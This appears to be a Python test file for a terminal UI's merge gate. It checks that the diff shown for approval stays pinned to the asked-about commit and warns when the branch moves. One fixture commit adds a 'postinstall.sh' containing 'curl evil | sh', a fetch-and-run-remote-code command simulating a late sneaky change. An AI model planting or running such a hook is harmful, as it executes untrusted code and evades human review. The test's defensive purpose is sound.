"""While a merge gate asks, the diff the board shows is the one it asked
about (#38): the dialog's ``d`` and the card's Diff tab show the gate's pinned
commits ("as asked: <sha>"), not whatever the branch holds now, and say when
the branch moved since (the person's answer then asks again)."""

from __future__ import annotations

from loopx_tui.screens.diff import DiffScreen
from loopx_tui.widgets.diff_view import DiffView
from tests.gitrepo import commit, head, open_workspace

from .test_diff import OAUTH, _merge_gate, open_diff_tab
from .test_merge_pin import _open


def _stats(view: DiffView) -> str:
    return str(view.query_one(".diff-stats").render())


async def test_d_and_the_diff_tab_show_the_pinned_diff_and_say_the_branch_moved(make_app, seeded, tmp_path):
    gate = _merge_gate(seeded, tmp_path, {"src/app.py": "def login():\n    return 'github'\n"})
    asked, base = head(seeded.root, "loopx/LX-6"), head(seeded.root)
    app = make_app()
    async with app.run_test(size=(100, 30)) as pilot:
        app.gates.deferred.add(seeded.gate)  # (the seeded board's own gate, left for later)
        modal = await _open(app, pilot, gate)
        await pilot.press("d")
        await pilot.pause()
        await app.reads_idle()
        await pilot.pause()
        assert isinstance(app.screen, DiffScreen)
        view = app.screen.query_one(DiffView)
        said = _stats(view)
        assert f"as asked: {asked[:12]} (G-{gate}, into main at {base[:12]})" in said and "moved since" not in said
        await pilot.press("escape")
        await pilot.pause()
        assert app.screen is modal

        # While the dialog is open, a commit lands on the branch: `d` still shows what was asked.
        tree = open_workspace(seeded.location, OAUTH, "claude-1")
        late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")
        await pilot.press("d")
        await pilot.pause()
        await app.reads_idle()
        await pilot.pause()
        view = app.screen.query_one(DiffView)
        said = _stats(view)
        assert "postinstall.sh" not in said and not any("postinstall" in line for line in view.lines)
        assert any(line.startswith("+    return 'github'") for line in view.lines)
        assert f"as asked: {asked[:12]}" in said
        assert f"moved since: loopx/LX-6 is at {late[:12]} now — your answer asks again with the new diff" in said
        await pilot.press("escape")
        await pilot.pause()
        await pilot.press("escape")  # the dialog: later
        await pilot.pause()

        # The card's Diff tab, the gate pending: the same pinned diff, the same warning.
        tab = await open_diff_tab(app, pilot)
        said = _stats(tab)
        assert f"as asked: {asked[:12]}" in said and f"loopx/LX-6 is at {late[:12]}" in said
        assert "postinstall.sh" not in said
